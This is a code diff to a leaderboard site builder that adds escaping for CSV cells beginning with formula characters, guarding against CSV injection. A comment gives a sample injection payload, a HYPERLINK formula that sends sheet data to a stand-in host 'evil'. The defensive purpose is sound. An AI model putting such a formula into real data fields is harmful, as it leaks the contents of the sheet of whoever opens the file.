@@ -125,6 +125,18 @@ def _prompt_label(cells: list[Cell], labels: dict[str, str]) -> str:
     return " · ".join(parts + (["chat template"] if chat else []))
 
 
+# A spreadsheet runs a cell that opens with one of these as a formula (CSV
+# injection, OWASP): '=HYPERLINK("http://evil/?"&A1)' as a model name would
+# send the sheet's data away when the published CSV is opened.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_text(text: str) -> str:
+    """A text cell of the CSV, a leading ' keeping a spreadsheet from reading it as a
+    formula (OWASP "CSV Injection"); numbers are written as numbers, untouched."""
+    return "'" + text if text.startswith(_FORMULA_START) else text
+
+
 def _params(n: int | None) -> str:
     if not n:
         return ""
@@ -237,10 +249,11 @@ class SiteBuilder:
                     continue
                 mv = cell.result.metrics.get(cell.metric)
                 writer.writerow([
-                    row.key, row.info.revision or row.checkpoint or "", row.info.parameters or "", row.info.dtype or "",
-                    task, cell.metric, "" if mv is None else mv.value, "" if mv is None or mv.stderr is None else mv.stderr,
-                    cell.result.n_samples, cell.unscored, cell.run.run_id,
-                    cell.judge or "", "yes" if cell.judge and cell.result.judging.self_judging else "",
+                    _csv_text(row.key), _csv_text(row.info.revision or row.checkpoint or ""), row.info.parameters or "",
+                    _csv_text(row.info.dtype or ""), _csv_text(task), _csv_text(cell.metric),
+                    "" if mv is None else mv.value, "" if mv is None or mv.stderr is None else mv.stderr,
+                    cell.result.n_samples, cell.unscored, _csv_text(cell.run.run_id),
+                    _csv_text(cell.judge or ""), "yes" if cell.judge and cell.result.judging.self_judging else "",
                 ])
         self._write("leaderboard.csv", buf.getvalue())
 
